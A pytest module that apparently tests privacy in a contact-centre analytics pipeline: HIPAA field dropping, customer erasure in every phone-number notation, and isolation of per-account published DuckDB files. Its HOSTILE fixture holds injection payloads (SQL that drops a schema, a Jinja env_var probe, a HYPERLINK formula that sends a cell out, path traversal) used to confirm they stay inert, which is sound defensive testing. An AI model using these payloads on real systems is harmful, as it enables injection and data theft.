"""What the project writes of people who must not be in it: nothing, by a search of every byte."""

import itertools
import json
import os
import subprocess
from pathlib import Path

import duckdb
import pytest
from byte_search import files_that_hold
from conftest import PROJECT, SETTINGS
from loading_support import lines
from privacy_support import FORMS, HEALTH, START, TRADE, Centre, sid_of
from published_support import Reader, assert_published_are_the_marts, contents
from spellings import HIDDEN, NATIONAL, NUMBER, OTHERS, SPELLINGS
from workshop.command import FLEX_INSIGHTS

SECRET = "SENTINEL"
PHONE, ID, MAIL = "+15557654321", "cust/ö-4711", "Xaver.Secret@Example.com"
# What is known of the person, in keys of which some are on the allow-list.
PERSONAL = ("Xaver Unkenntlich", "his-content", "his-label", "his-attribute", "his-link", "his-media")
GONE = (PHONE, PHONE[1:], MAIL, MAIL.lower(), ID, *PERSONAL)
# A person whose number is written in every notation, and told of in every disguise.
CALLER = ("Ada Unkenntlich", "her-content", "her-label")
PLACES = (
    *("from", "caller", "customerAddress", "customers.phone", "customers.external_id"),
    *("conversations.conversation_id", "to", "called", "outbound_to", "customers.email"),
)
NOTATIONS = {**SPELLINGS, **NATIONAL}
# test_spellings.py has each in each
SPELLED = [spelled for number, hide in zip(itertools.cycle(NOTATIONS.values()), [*HIDDEN.values()] * 3)
           if isinstance(spelled := hide(number), str)]
GONE_OF_HER = (*CALLER, *NOTATIONS.values(), *SPELLED, NUMBER[2:])
UNTOUCHED = {name: number for name, number in OTHERS.items() if NUMBER[2:] not in number and name != "national"}
HOSTILE = {
    "sql": "'); copy (select 1) to 'pwned'; drop schema marts cascade; --",
    "jinja": "{{ env_var('HOME') }}{% raw %}{{ 7 * 7 }}",
    "formula": '=HYPERLINK("http://x/?"&A1)',
    "path": "../../../pwned/..\\..\\x",
    "long": "x" * 1_000_000,
    "deep": "[" * 400 + "]" * 400,
    "null": "a\x00b",
    "surrogate": "\ud800",
    "quotes": "\"'`$$;\n\r\t\u2028",
}
HOSTILE_ACCOUNT = "../../../AC'; drop table x; --{{ 1 }}"


def health_events(centre):
    """Secrets in all that the list drops; three conversations, two of them of two tasks each."""
    secrets = {
        "from": SECRET, "to": SECRET, "caller": SECRET, "name": SECRET, "customerName": SECRET,
        "customerAddress": SECRET, "notes": [{"a": [SECRET]}], SECRET: "a key", "from_city": SECRET,
        "customers": {"name": SECRET, "phone": SECRET, "email": SECRET, "external_id": SECRET,
                      "gender": "f", "zip": SECRET, "category": {"nested": SECRET}},
        "conversations": {"case": "C1", "customer": SECRET, "secret": SECRET,
                          "campaign": {"deep": [SECRET]}},
    }
    links = {
        "one": {"call_sid": "CA1"}, "two": {"call_sid": "CA1"},
        "three": {"flexInteractionSid": "KD1"},
        "four": {"conversations": {"conversation_id": "KD1", "secret": SECRET}},
        "five": {},
    }
    fields = {"EventDescription": SECRET, "description": SECRET, "add_ons": {"x": SECRET}}
    for number, (task, link) in enumerate(links.items()):
        form = list(FORMS)[number % 3]
        yield from centre.call(form, HEALTH, f"health {task}", secrets | link, **fields)
    for odd in (f'{{"from": "{SECRET}"', [SECRET], SECRET):
        yield from centre.call("rest", HEALTH, "health odd", odd)
    yield from (SECRET, f'{{"EventType": "{SECRET}', {"EventType": SECRET, "x": SECRET}, [SECRET])


def trade_events(centre, form_of=lambda number: list(FORMS)[number % 3]):
    """A person who calls three times and is spoken of in somebody else's call."""
    kept = {
        "content": "his-content", "conversation_label_1": "his-label", "outcome": "sold",
        "conversation_attribute_2": "his-attribute", "segment_link": "his-link",
        "media": [{"url": "his-media"}],
    }
    calls = {
        "phone": {"from": PHONE, "name": PERSONAL[0], "conversations": kept},
        "id": {"from": "+4912345", "customers": {"external_id": ID, "name": PERSONAL[0]},
               "flexInteractionSid": "KDx"},
        "tied": {"customerName": PERSONAL[0], "flexInteractionSid": "KDx", "from": "+4912345"},
        "mail": {"customerAddress": MAIL.upper(), "conversations": {"conversation_id": MAIL}},
        "other": {"from": "+15550009999", "customerName": "Somebody Else", "note": f"not {PHONE}"},
    }
    for number, (task, attributes) in enumerate(calls.items()):
        at = START + 3_600_000 * number
        yield from centre.call(form_of(number), TRADE, f"trade {task}", attributes, at)
    yield centre.activity(TRADE, "Available", "Offline", START - 60_000, 30_000)


def caller_events(centre, form_of=lambda number: list(FORMS)[number % 3]):
    """Her calls, texts that speak of her in others' events and in an agent's, and people who are not she."""
    for number, (name, spelling) in enumerate(NOTATIONS.items()):
        attributes = {"customerName": CALLER[0], "flexInteractionSid": f"KDher{number}",
                      "conversations": {"content": CALLER[1], "conversation_label_1": CALLER[2]}}
        section, _, key = PLACES[number % len(PLACES)].rpartition(".")
        (attributes.setdefault(section, {}) if section else attributes)[key] = spelling
        if key in ("to", "called", "outbound_to"):
            attributes["direction"] = "outbound"
        yield from centre.call(form_of(number), TRADE, f"her {number}", attributes)
        tied = {"customerName": CALLER[0], "flexInteractionSid": f"KDher{number}"}
        yield from centre.call(form_of(number), TRADE, f"her tied {number}", tied)
    for number, (name, hide) in enumerate(HIDDEN.items()):
        spelling = list(NOTATIONS.values())[number * 2]
        attributes = {"from": "+15550008888", "customerName": f"Speaks of her {number}", "note": hide(spelling),
                      "conversations": {"segment_link": hide(spelling), "case": hide(spelling)}}
        more = {"worker_attributes": {"full_name": "Alice Agent", "note": hide(NUMBER)}}
        yield from centre.call(form_of(number), TRADE, f"of her {number}", attributes, **more)
    for number, (name, spelling) in enumerate(UNTOUCHED.items()):
        attributes = {"from": spelling, "customerName": f"Not she {number}", "note": spelling}
        yield from centre.call(form_of(number), TRADE, f"not she {number}", attributes)


def hostile_events(centre):
    """Values that mean something to a program on the way, in every text field."""
    for number, (name, value) in enumerate(HOSTILE.items()):
        attributes = {"from": value, "customers": {"name": value, "external_id": f"hostile {name}"},
                      "conversations": {"outcome": value, "case": value, "content": value}}
        more = {"task_queue_name": value, "worker_name": value, "workflow_name": value}
        form = list(FORMS)[number % 3]
        events = centre.call(form, TRADE, f"hostile {name}", attributes)
        for event in events:
            target = event if form == "webhook" else event["event_data" if form == "rest" else "data"]
            target = target.get("payload", target)
            keys = {"".join(w.capitalize() for w in k.split("_")) if form == "webhook" else k: v
                    for k, v in more.items()}
            target |= keys
        yield from events
    yield from centre.call("rest", HOSTILE_ACCOUNT, "../../../pwned", {"from": "+15550001"})


def run(command, **settings):
    environment = {name: text for name, text in os.environ.items() if name not in SETTINGS}
    environment |= {name: str(value) for name, value in settings.items()}
    return subprocess.run(
        [FLEX_INSIGHTS, *command], cwd=PROJECT, env=environment, capture_output=True, text=True
    )


def rows(data, query):
    with duckdb.connect(str(data / "flex_insights.duckdb"), read_only=True) as connection:
        return connection.execute(query).fetchall()


def numbers(data):
    """What must stay as it is: counts and times."""
    return [
        rows(data, query)
        for query in (
            "select account_sid, task_sid, kind, started_at, ended_at, queue_time, ring_time, talk_time,"
            " wrap_up_time, abandoned from marts.fct_segments order by all",
            "select account_sid, started_at, tasks, segments, is_handled from marts.fct_conversations"
            " order by all",
            "select account_sid, started_at, workload_kind, parallel_conversations, workload_talk_time"
            " from marts.fct_workload order by all",
        )
    ]


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    return tmp_path_factory.mktemp("privacy")


@pytest.fixture(scope="module")
def built(folder, readers):
    """Everything loaded and built once, with one account under HIPAA."""
    centre, events = Centre(), folder / "events"
    events.mkdir()
    (events / "health.jsonl").write_bytes(lines(*health_events(centre)))
    (events / f"trade of {PHONE}.jsonl").write_bytes(lines(*trade_events(centre)))
    (events / "of +1 (415) 555-0100").mkdir()
    rejects = [f'{{"broken": "{spelling}' for spelling in SPELLED]
    (events / "of +1 (415) 555-0100" / "tel=%2B14155550100.jsonl").write_bytes(
        lines(*caller_events(centre), *rejects))
    (events / "hostile.jsonl").write_bytes(lines(*hostile_events(centre)) + b'{"a": "\x00"}\n')
    before = {path for path in folder.parent.rglob("*")}
    done = run(["build"], EVENTS=events, DATA=folder / "data", HIPAA_ACCOUNTS=HEALTH)
    assert done.returncode == 0, done.stdout + done.stderr
    outside = {path for path in folder.parent.rglob("*")} - before
    reader = Reader(folder / "data" / "published" / f"{TRADE}.duckdb")
    readers["first"] = reader, reader.ask()
    return done, {path for path in outside if folder / "data" not in [path, *path.parents]}


@pytest.fixture(scope="module")
def readers():
    """Processes that hold a published file open, and what they were told at first."""
    open_ones = {}
    yield open_ones
    for reader, _ in open_ones.values():
        reader.close()


@pytest.fixture(scope="module")
def data(built, folder):
    return folder / "data"


def test_under_hipaa_nothing_that_the_list_drops_is_written(built, data):
    done, _ = built
    assert SECRET not in done.stdout + done.stderr
    assert files_that_hold(data, [SECRET]) == []


def test_the_search_finds_what_is_there(data):
    """In Parquet, in the database and in the published file."""
    found = {Path(path).suffix for path, _ in files_that_hold(data, [PERSONAL[0]])}
    assert found == {".parquet", ".duckdb"}
    assert any("published" in path for path, _ in files_that_hold(data, [PHONE]))


def test_under_hipaa_conversations_stitch_and_each_is_its_own_customer(built, data):
    found = rows(
        data,
        "select tasks, customer_id = conversation_id, external_id, phone, email, name"
        " from marts.fct_conversations join marts.dim_customers using (customer_key)"
        f" where fct_conversations.account_sid = '{HEALTH}' order by all",
    )
    assert found == [(1, True, *[None] * 4)] * 2 + [(2, True, *[None] * 4)] * 2


def test_hostile_values_are_data_or_rejects_and_nothing_else(built, data):
    _, outside = built
    assert outside == set()
    assert not any("pwned" in path.name for path in data.rglob("*"))
    shown = dict(
        rows(
            data,
            "select customer_id, outcome from marts.fct_segments join marts.dim_customers"
            " using (customer_key) where customer_id like 'hostile %' and kind = 'Conversation'",
        )
    )
    for name, value in HOSTILE.items():
        if name not in ("null", "surrogate"):
            assert shown[f"hostile {name}"] == value[:128]
    accounts = {account for (account,) in rows(data, "select distinct account_sid from marts.fct_segments")}
    assert HOSTILE_ACCOUNT in accounts
    manifest = json.loads((data / "published" / "manifest.json").read_text())
    assert "/" not in manifest["accounts"][HOSTILE_ACCOUNT]["file"]


@pytest.fixture(scope="module")
def forgotten(data):
    """After the person has been erased: what was said, and the numbers of before."""
    before = numbers(data)
    done = run(
        ["forget"], DATA=data, CUSTOMER=f"{PHONE}, {ID},{MAIL},{NUMBER}", ACCOUNT=TRADE, COUNTRY="US",
    )
    assert done.returncode == 0, done.stdout + done.stderr
    return done, before


def test_nothing_is_left_of_an_erased_customer(forgotten, data):
    assert files_that_hold(data, GONE) == []


def test_nothing_is_left_of_a_number_in_any_notation_and_place(forgotten, data):
    assert files_that_hold(data, GONE_OF_HER) == []


def test_nobody_elses_is_touched(forgotten, data):
    shown = dict(rows(data, "select name, customer_id from marts.dim_customers where name like 'Not she %'"))
    assert len(shown) == len(UNTOUCHED)
    for number, (name, spelling) in enumerate(UNTOUCHED.items()):
        assert name == "none" or shown[f"Not she {number}"] == spelling
    (spoken,) = rows(data, "select count(*) from marts.dim_customers where name like 'Speaks of her %'")
    assert spoken == (1,)  # one number called


def test_erasure_keeps_counts_and_times_and_everybody_else(forgotten, data):
    done, before = forgotten
    assert f"{4 + 2 * len(NOTATIONS)} tasks erased" in done.stdout
    assert numbers(data) == before
    assert rows(data, "select count(*) from marts.dim_customers where name = 'Somebody Else'") == [(1,)]
    (outcome,) = rows(
        data,
        "select outcome from marts.fct_segments where kind = 'Conversation'"
        f" and task_sid = '{sid_of('WT', 'trade phone')}'",
    )
    assert outcome == ("sold",)


def test_the_same_events_come_again_and_bring_nothing_back(forgotten, data, folder, readers):
    """In other files and forms, more of them than before, and with a line that cannot be read."""
    before = numbers(data)
    reader = Reader(data / "published" / f"{TRADE}.duckdb")
    readers["second"] = reader, reader.ask()
    centre = Centre()
    list(health_events(centre))
    again = list(trade_events(centre, lambda number: list(FORMS)[(number + 1) % 3]))
    again += caller_events(centre, lambda number: list(FORMS)[(number + 1) % 3])
    events = folder / "again"
    events.mkdir()
    rejects = [f'{{"broken again": "{spelling}' for spelling in SPELLED]
    text = lines(*again, *again[:9], f'{{"broken": "{PHONE}", "name": "{PERSONAL[0]}"', *rejects)
    (events / f"again of {PHONE}.jsonl").write_bytes(text)
    done = run(["build"], EVENTS=events, DATA=data, HIPAA_ACCOUNTS=HEALTH)
    assert done.returncode == 0, done.stdout + done.stderr
    assert files_that_hold(data, [*GONE, *GONE_OF_HER]) == []
    assert numbers(data) == before


def test_readers_hold_their_file_through_three_builds_and_new_ones_see_the_new(data, readers):
    """The first has seen the build with everything, an erasure and another build go by."""
    told = []
    for reader, at_first in readers.values():
        assert reader.ask() == at_first
        told.append(at_first)
    reader = Reader(data / "published" / f"{TRADE}.duckdb")
    told.append(reader.ask())
    reader.close()
    assert len(told) == 3 and told[0] != told[1] != told[2]


def test_what_was_kept_up_to_date_is_what_the_marts_are(data):
    accounts = json.loads((data / "published" / "manifest.json").read_text())["accounts"]
    assert accounts[TRADE]["dead_rows"] > 0  # else the last build has replaced nothing in it
    assert accounts[HEALTH]["dead_rows"] == 0
    assert_published_are_the_marts(data)


def test_no_published_file_holds_a_byte_of_another_account(data):
    accounts = json.loads((data / "published" / "manifest.json").read_text())["accounts"]
    files = {account: contents(data / "published" / entry["file"]) for account, entry in accounts.items()}
    own = {HEALTH: sid_of("WT", "health one"), TRADE: "Somebody Else"}
    for account, text in own.items():
        for other, content in files.items():
            assert (account in content and text in content) == (other == account)
